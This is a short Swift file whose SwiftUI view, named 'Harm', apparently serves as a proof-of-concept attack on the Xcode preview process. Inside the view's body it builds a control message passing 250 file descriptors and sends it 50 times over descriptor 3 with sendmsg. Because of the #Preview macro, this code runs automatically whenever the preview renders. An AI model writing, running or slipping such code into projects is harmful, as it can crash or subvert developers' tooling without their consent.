// 1: the preview sends what is no answer
import Foundation
import SwiftUI

struct Harm: View {
  var body: some View {
    var control = [Int32](repeating: 0, count: 4 + 250)
    control[0] = Int32(16 + 250 * 4)
    (control[2], control[3]) = (SOL_SOCKET, 1)
    for index in 0..<250 { control[4 + index] = index % 2 == 0 ? 3 : 1 }
    var byte: UInt8 = 0x7b
    withUnsafeMutablePointer(to: &byte) { byte in
      control.withUnsafeMutableBytes { control in
        var part = iovec(iov_base: UnsafeMutableRawPointer(byte), iov_len: 1)
        withUnsafeMutablePointer(to: &part) { part in
          var message = msghdr()
          (message.msg_iov, message.msg_iovlen) = (part, 1)
          (message.msg_control, message.msg_controllen) = (control.baseAddress, control.count)
          for _ in 0..<50 { _ = sendmsg(3, &message, 0) }
        }
      }
    }
    sleep(5)
    return Color.red
  }
}

#Preview { Harm() }
